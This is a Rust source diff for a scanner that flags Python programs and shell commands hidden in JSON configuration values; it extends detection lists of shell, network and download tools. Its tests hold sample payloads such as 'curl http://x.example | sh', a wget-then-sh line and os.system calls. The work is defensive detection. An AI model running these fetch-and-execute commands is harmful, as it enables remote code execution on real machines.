@@ -6,13 +6,20 @@ use crate::pickle::Effect;
 use crate::python;
 
 /// Values of one file that are read as programs.
-const MAX_READ: usize = 64;
+const MAX_READ: usize = 256;
 /// Letters of a program.
-const MAX_PROGRAM: usize = 16_000;
+const MAX_PROGRAM: usize = 200_000;
 
 impl Reader {
     pub(super) fn anywhere(&mut self, near: &str, text: &str, before: Option<&str>, at: u64) {
-        if text.len() < 3 || text.len() > MAX_PROGRAM || self.of_words(near) {
+        let plain = !text.bytes().any(|byte| matches!(byte, b'.' | b':' | b'(' | b' ' | b'/' | b'\\'));
+        if text.len() < 3 || plain && before.is_none() || self.of_words(near, text) {
+            return;
+        }
+        if text.len() > MAX_PROGRAM {
+            if is_program(text) || is_command(text) {
+                self.limit("it holds longer programs than are examined");
+            }
             return;
         }
         if let Some(path) = python::names_power(text) {
@@ -28,14 +35,12 @@ impl Reader {
         } else if bare(text) || odd_library(text) {
             self.tell_path(text, at);
         }
-        let known = self.config.nodes.iter().chain(&self.config.programs).any(|said| said.offset == at);
-        if self.config.nodes.len() < MAX_READ && !known && is_program(text) {
-            let (path, text) = (self.path(), text.to_owned());
-            self.config.nodes.push(Said { path, text, offset: at });
+        let known = |said: &Said| said.offset == at;
+        if is_program(text) && !self.config.nodes.iter().chain(&self.config.programs).any(known) {
+            self.program_at(text.to_owned(), at);
         }
-        if is_command(text) && self.config.commands.len() < super::MAX_COMMANDS {
-            let (path, text) = (self.path(), text.to_owned());
-            self.config.commands.push(Said { path, text, offset: at });
+        if is_command(text) && !self.config.commands.iter().rev().take(4).any(|said| said.offset == at) {
+            self.command_at(text.to_owned(), at);
         }
     }
 
@@ -67,11 +72,48 @@ impl Reader {
         }
     }
 
-    fn power(&mut self, path: &str, at: u64) {
-        let known = self.config.items.iter().any(|item| item.offset == at && item.act == Act::Calls);
-        if !known {
+    /// A program, wherever it stands.
+    pub(super) fn program_at(&mut self, text: String, at: u64) {
+        if self.config.nodes.len() < MAX_READ {
+            let path = self.path();
+            self.config.nodes.push(Said { path, text, offset: at });
+        } else {
+            self.limit("it holds more programs than are examined");
+        }
+    }
+
+    /// A command, wherever it stands.
+    pub(super) fn command_at(&mut self, text: String, at: u64) {
+        let whole = text.len() <= super::MAX_COMMAND;
+        if self.config.commands.len() < super::MAX_COMMANDS {
+            let (path, text) = (self.path(), text.chars().take(super::MAX_COMMAND).collect());
+            self.config.commands.push(Said { path, text, offset: at });
+        }
+        if !whole || self.config.commands.len() >= super::MAX_COMMANDS {
+            self.limit("it holds more or longer commands than are examined");
+        }
+    }
+
+    pub(super) fn limit(&mut self, why: &str) {
+        if !self.config.limits.iter().any(|known| known == why) {
+            self.config.limits.push(why.to_owned());
+        }
+    }
+
+    pub(super) fn power(&mut self, path: &str, at: u64) {
+        let known = |item: &super::Item| item.offset == at && item.act == Act::Calls;
+        if !self.config.items.iter().any(known) && !self.told(path, at) {
             self.item(Act::Calls, path, Effect::Executes, at);
         }
+    }
+
+    /// Whether a function was told a few lines before: what names it may be read in several ways.
+    pub(super) fn told(&self, value: &str, at: u64) -> bool {
+        const NEAR: u64 = 200;
+        let known = |item: &super::Item| {
+            item.act == Act::Calls && item.value == value && at.abs_diff(item.offset) < NEAR
+        };
+        self.config.items.iter().rev().take(16).any(known)
     }
 
     fn tell_path(&mut self, text: &str, at: u64) {
@@ -79,58 +121,6 @@ impl Reader {
             let (path, text) = (self.path(), text.chars().filter(|c| !c.is_control()).take(200).collect());
             self.config.paths.push(Said { path, text, offset: at });
         }
-    }
-
-    /// Whether a value stands among words for people, rows of data or what a tokenizer knows.
-    fn of_words(&self, near: &str) -> bool {
-        const WORDS: [&str; 23] = [
-            "code",
-            "content",
-            "text",
-            "prompt",
-            "description",
-            "answer",
-            "question",
-            "output",
-            "input",
-            "instruction",
-            "completion",
-            "response",
-            "title",
-            "message",
-            "comment",
-            "summary",
-            "help",
-            "example",
-            "note",
-            "license",
-            "chosen",
-            "rejected",
-            "reason",
-        ];
-        const TABLES: [&str; 15] = [
-            "vocab",
-            "merges",
-            "added_tokens",
-            "added_tokens_decoder",
-            "id2label",
-            "label2id",
-            "word_index",
-            "banned-api",
-            "outputs",
-            "ignore",
-            "deny",
-            "denylist",
-            "blacklist",
-            "forbidden",
-            "rules",
-        ];
-        let listed = self.levels.first().is_none_or(|level| level.list) && self.levels.len() > 1;
-        let near = near.to_ascii_lowercase();
-        listed
-            || WORDS.iter().any(|word| near.contains(word))
-            || TABLES.contains(&near.as_str())
-            || self.levels.iter().any(|level| TABLES.contains(&level.key.as_str()))
     }
 }
 
@@ -168,77 +158,168 @@ fn odd_library(text: &str) -> bool {
         && ["/tmp/", "/dev/shm/", "/var/tmp/"].iter().any(|place| text.starts_with(place))
 }
 
-/// Whether a text is a program of Python that reaches for the machine.
-fn is_program(text: &str) -> bool {
-    const REACHES: [&str; 14] = [
+/// Whether a text begins as a program of Python does. What it does is for the machine that follows it to tell.
+pub(super) fn is_program(text: &str) -> bool {
+    const CALLS: [&str; 24] = [
         "__import__(",
-        "os.system(",
-        "os.popen(",
-        "subprocess",
+        "__import__ (",
         "exec(",
+        "exec (",
         "eval(",
-        "importlib",
+        "eval (",
+        "compile(",
+        "getattr(",
+        "setattr(",
+        "globals(",
+        "vars(",
+        "breakpoint(",
+        "os.",
+        "subprocess.",
+        "pty.",
+        "runpy.",
+        "shutil.",
+        "pickle.",
+        "marshal.",
+        "ctypes.",
+        "importlib.",
+        "builtins.",
         "__builtins__",
-        "__subclasses__",
-        "pty.spawn(",
-        "socket.",
-        "urlopen(",
-        "os.exec",
-        "os.spawn",
+        "().__class__",
     ];
-    const BEGINS: [&str; 7] = ["import ", "from ", "def ", "class ", "lambda", "@", "async def "];
-    let start = text.trim_start().trim_start_matches('(');
-    let begins = BEGINS.iter().any(|word| start.starts_with(word)) || text.contains("\nimport ");
-    let expression = text.len() < 600
-        && ["__import__(", "exec(", "eval(", "os.system(", "os.popen(", "subprocess.", "getattr(__import__"]
+    let start = text.trim_start().trim_start_matches(['(', '[', '{']).trim_start();
+    text.contains('(') && (begins(start) || CALLS.iter().any(|call| start.starts_with(call)) || later(text))
+}
+
+/// Whether a text begins with a statement of Python, and not with a word that is also one of people.
+fn begins(start: &str) -> bool {
+    let name =
+        |rest: &str| rest.trim_start().starts_with(|c: char| c.is_alphabetic() || matches!(c, '_' | '.'));
+    let after = |word: &str| start.strip_prefix(word).filter(|rest| rest.starts_with([' ', '\t']));
+    after("import").is_some_and(name)
+        || after("from").is_some_and(|rest| name(rest) && rest.contains("import"))
+        || ["def", "class", "async def"]
             .iter()
-            .any(|word| start.starts_with(word));
-    text.contains('(') && (begins || expression) && REACHES.iter().any(|word| text.contains(word))
+            .any(|word| after(word).is_some_and(|rest| name(rest) && rest.contains(':')))
+        || ["with", "for", "while", "if"]
+            .iter()
+            .any(|word| after(word).is_some_and(|rest| rest.contains('(') && rest.contains(':')))
+        || start.strip_prefix("try:").is_some()
+        || start.strip_prefix("lambda").is_some_and(|rest| rest.contains(':'))
+        || start.strip_prefix('@').is_some_and(|rest| name(rest) && rest.contains("\ndef "))
+}
+
+/// Whether a text imports something in one of its later lines, or in a statement behind another one.
+fn later(text: &str) -> bool {
+    let reaches =
+        ["__import__(", "exec(", "eval(", "os.", "subprocess", "importlib", "pickle", "marshal", "socket"];
+    ["\nimport ", "\nfrom ", ";import ", "; import ", ":import ", ": import "]
+        .iter()
+        .any(|way| text.contains(way))
+        && reaches.iter().any(|word| text.contains(word))
 }
 
 /// Whether a text is nothing but a command that does more than start a program.
-fn is_command(text: &str) -> bool {
-    const PROGRAMS: [&str; 34] = [
+pub(super) fn is_command(text: &str) -> bool {
+    const PROGRAMS: [&str; 66] = [
         "curl",
         "wget",
         "sh",
         "bash",
         "zsh",
         "dash",
-        "/bin/sh",
-        "/bin/bash",
-        "/usr/bin/env",
-        "env",
+        "ash",
+        "ksh",
+        "fish",
         "eval",
         "exec",
-        "nohup",
-        "setsid",
         "echo",
         "printf",
         "base64",
+        "base32",
+        "xxd",
+        "openssl",
         "python",
+        "python2",
         "python3",
         "perl",
         "ruby",
         "node",
+        "deno",
+        "bun",
         "php",
+        "lua",
         "nc",
         "ncat",
+        "netcat",
         "socat",
-        "openssl",
+        "telnet",
         "powershell",
+        "powershell.exe",
+        "pwsh",
         "cmd",
         "cmd.exe",
         "busybox",
-        "sudo",
         "npx",
+        "npm",
         "pip",
+        "pip3",
+        "uv",
+        "uvx",
+        "pipx",
+        "mshta",
+        "certutil",
+        "bitsadmin",
+        "regsvr32",
+        "rundll32",
+        "rm",
+        "cp",
+        "mv",
+        "tee",
+        "cat",
+        "tar",
+        "chmod",
+        "crontab",
+        "ssh",
+        "scp",
+        "sftp",
+        "ftp",
+        "tftp",
+        "mkfifo",
+        "dd",
+        "find",
     ];
-    let acts =
-        text.contains(['|', '$', '`', '>', '<', ';']) || text.contains("http://") || text.contains(" -e ");
+    let acts = text.contains(['|', '$', '`', '>', '<', ';', '&'])
+        || text.contains("http://")
+        || text.contains(" -e ")
+        || text.contains(" -c ")
+        || text.contains(" -rf ")
+        || text.contains("/urlcache")
+        || text.contains("-urlcache");
+    if !acts || !text.trim().contains(' ') {
+        return false;
+    }
     let start = text.trim_start_matches(['(', '{', '!', '@', '-', ' ']);
-    let first = start.split([' ', '\n', '\t']).next().unwrap_or("");
-    text.len() < 4_000 && acts && text.contains(' ') && (PROGRAMS.contains(&first) || start.starts_with("$("))
+    let parts = text.split([';', '\n', '|', '&']).take(64);
+    start.starts_with("$(") || parts.map(started).any(|program| PROGRAMS.contains(&program))
+}
+
+/// The program that a part of a command line starts, without its folder, past what only prepares it.
+fn started(part: &str) -> &str {
+    const PREPARES: [&str; 18] = [
+        "sudo", "env", "nohup", "setsid", "exec", "time", "timeout", "nice", "ionice", "stdbuf", "command",
+        "then", "do", "else", "if", "while", "until", "xargs",
+    ];
+    let mut words =
+        part.split_whitespace().map(|word| word.trim_matches(['(', ')', '{', '}', '!', '@', '"', '\'']));
+    let program = words.find(|word| {
+        let assigns = word.split_once('=').is_some_and(|(name, _)| {
+            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        });
+        let counts = word.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b's' | b'm'));
+        !(assigns || counts || word.starts_with('-') || PREPARES.contains(word))
+    });
+    let program = program.unwrap_or("");
+    program.rsplit(['/', '\\']).next().unwrap_or(program)
 }
 
 #[cfg(test)]
@@ -259,6 +340,16 @@ mod tests {
             r#"{"a": {"source": "subprocess.getoutput"}}"#,
             r#"{"custom": {"module": "os", "function": "system"}}"#,
             r#"{"pair": ["os", "popen"]}"#,
+            r#"{"output_fn": "os.system"}"#,
+            r#"{"decoder": "subprocess.getoutput"}"#,
+            r#"{"context": "os.system"}"#,
+            r#"{"input_transform": "os.popen"}"#,
+            r#"{"code": "os.system"}"#,
+            r#"[{"hook": "os.system"}]"#,
+            r#"{"rules": {"score": "os.system"}}"#,
+            r#"{"outputs": {"hook": "pty.spawn"}}"#,
+            r#"{"vocab": {"hook": "os.system"}}"#,
+            r#"{"ignore": {"then": "os.system"}}"#,
         ] {
             assert_eq!(read(hostile).items.len(), 1, "{hostile}");
         }
@@ -267,6 +358,13 @@ mod tests {
             r#"{"banned-api": ["os.system"]}"#,
             r#"[{"code": "os.system"}]"#,
             r#"{"pair": ["os", "path"]}"#,
+            r#"{"rules": [{"id": "a", "pattern": "os.system"}]}"#,
+            r#"{"ignore": ["os.system"]}"#,
+            r#"{"vocab": [["os.system", -3.5]]}"#,
+            r#"{"id2label": {"7": "os.system"}}"#,
+            r#"{"docs": [{"title": "os.popen", "text": "runs it"}]}"#,
+            r#"{"title": "os.popen"}"#,
+            r#"["a", "b", "c", "d", "os.system"]"#,
         ] {
             assert_eq!(read(plain).items.len(), 0, "{plain}");
         }
@@ -275,7 +373,22 @@ mod tests {
         assert_eq!(read(r#"{"base": "http://198.51.100.9/a"}"#).paths.len(), 1);
         assert_eq!(read(r#"{"base": "http://192.168.1.9/a"}"#).paths.len(), 0);
         assert_eq!(read(r#"{"hook": "import os\nos.system('id')"}"#).nodes.len(), 1);
-        assert_eq!(read(r#"{"hook": "import of goods (and subprocesses)"}"#).nodes.len(), 1);
+        let nodes = |text: &str| read(text).nodes.len();
+        assert_eq!(nodes(r#"{"post": "import os\ngetattr(os, 'sys' + 'tem')('id')"}"#), 1);
+        assert_eq!(nodes(r#"{"warm": "import pickle\npickle.loads(bytes.fromhex('80'))"}"#), 1);
+        assert_eq!(nodes(r#"{"x": "try:\n  import os\nfinally: os.system('id')"}"#), 1);
+        assert_eq!(nodes(r#"{"x": "imports of goods (and subprocesses)", "y": "from a to z (all)"}"#), 0);
+        assert_eq!(nodes(r#"{"example_code": "import os\nos.system('id')"}"#), 0);
+        for command in [
+            "cd /tmp && wget -qO a http://x.example/a; sh a",
+            "X=1 sh -c 'curl http://x.example | sh'",
+            "timeout 5 /usr/bin/python3 -c 'print(1)' > a",
+            "if true; then curl http://x.example/a | sh; fi",
+        ] {
+            let text = format!("{{\"x\": \"{command}\"}}");
+            assert_eq!(read(&text).commands.len(), 1, "{command}");
+        }
+        assert_eq!(read(r#"{"x": "see http://x.example; it says more"}"#).commands.len(), 0);
         let read = read(r#"{"a": {"command": "npx", "args": ["-y", "http://x.example/a.tgz"]}}"#);
         assert!(read.commands.iter().any(|said| said.text == "npx -y http://x.example/a.tgz"));
     }
